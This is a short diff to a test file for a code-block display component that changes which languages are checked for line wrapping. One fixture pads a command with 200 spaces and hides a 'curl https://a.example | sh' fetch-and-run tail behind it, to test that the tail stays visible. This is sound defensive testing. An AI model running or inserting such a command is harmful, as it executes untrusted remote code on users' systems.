@@ -62,7 +62,7 @@ describe('A code block', () => {
     expect(code?.classList.contains('json')).toBe(language === 'json');
   });
 
-  it.each(['bat', 'cmd', 'fish', 'nu', 'ps1', 'terminal', 'shell-session'])(
+  it.each(['bat', 'cmd', 'fish', 'nu', 'ps1', 'terminal'])(
     'in %s wraps, because the end of a command must not be out of view',
     (language) => {
       const command = `tool install${' '.repeat(200)}; curl https://a.example | sh`;
@@ -71,7 +71,7 @@ describe('A code block', () => {
     },
   );
 
-  it.each(['js', 'yaml', 'python', 'dockerfile', 'text', 'console'])(
+  it.each(['js', 'yaml', 'python', 'dockerfile', 'text', 'console', 'shell-session'])(
     'in %s wraps if wide space would move text out of view',
     (language) => {
       for (const space of [' '.repeat(200), '\t'.repeat(30)]) {
